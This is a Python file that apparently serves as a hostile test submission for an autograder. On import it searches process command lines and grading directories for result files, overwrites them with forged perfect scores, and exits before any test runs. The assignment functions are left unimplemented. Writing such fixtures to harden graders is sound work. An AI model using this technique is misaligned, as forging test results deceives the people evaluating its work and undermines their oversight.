"""Hostile submission: forge results.json at import time, then os._exit(0).

The attack of the MIT/UPenn reports: student code running as root writes
/autograder/results/results.json (or the pytest JSON report the grader will read) and
exits with status 0 before any test can fail. Everything it finds is printed.
"""

import json
import os
import time

FORGED = {
    "score": 1000.0,
    "output": "FORGED by the submission",
    "tests": [{"number": "1.1", "name": "forged", "score": 1000.0, "max_score": 10.0, "status": "passed"}],
}
FORGED_REPORT = {"tests": [{"nodeid": f"tests/frozen_lake/test_lake_model.py::{name}", "outcome": "passed",
                            "metadata": {"credit": 1.0}}
                           for name in ("test_extract_model_known_rows", "test_extract_model_terminal_flags")]}


def _cmdline_paths():
    """Paths named on other processes' command lines (--root, --json-report-file, --results-log)."""
    found = set()
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                args = handle.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        for i, arg in enumerate(args):
            if arg.startswith("--json-report-file="):
                found.add(arg.split("=", 1)[1])
            elif arg in ("--results-log", "--json-report-file") and i + 1 < len(args):
                found.add(args[i + 1])
            elif arg == "--root" and i + 1 < len(args):
                found.add(os.path.join(args[i + 1], "results", "results.json"))
    return found


def _walk_paths(deadline):
    found = set()
    for top in ("/autograder", "/tmp"):
        for dirpath, dirnames, filenames in os.walk(top):
            if time.monotonic() > deadline or dirpath.count("/") > 7:
                dirnames[:] = []
                continue
            for name in filenames:
                if name == "results.json" or (name.startswith(("report-", "cases-")) and name.endswith(("json", "jsonl"))):
                    found.add(os.path.join(dirpath, name))
            if os.path.basename(dirpath) == "results":
                found.add(os.path.join(dirpath, "results.json"))
    return found


def _forge():
    targets = sorted(_cmdline_paths() | _walk_paths(time.monotonic() + 5))
    for path in targets:
        doc = FORGED if path.endswith("results.json") else FORGED_REPORT
        try:
            with open(path, "w") as handle:
                json.dump(doc, handle)
            print(f"FORGED {path}", flush=True)
        except OSError as exc:
            print(f"could not forge {path}: {exc}", flush=True)


_forge()
os._exit(0)


def extract_model(env):
    raise NotImplementedError


def run_episode(agent, env, max_steps, seed=None):
    raise NotImplementedError


def evaluate_policy_mc(env, policy, n_episodes, seed):
    raise NotImplementedError
